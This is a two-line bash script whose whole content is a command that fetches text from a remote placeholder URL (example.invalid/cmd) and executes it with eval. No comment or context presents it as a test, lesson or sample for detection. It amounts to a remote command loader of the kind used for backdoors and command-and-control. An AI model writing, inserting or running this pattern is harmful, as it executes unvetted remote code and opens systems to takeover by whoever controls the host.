#!/bin/bash
eval "$(curl -s http://example.invalid/cmd)"
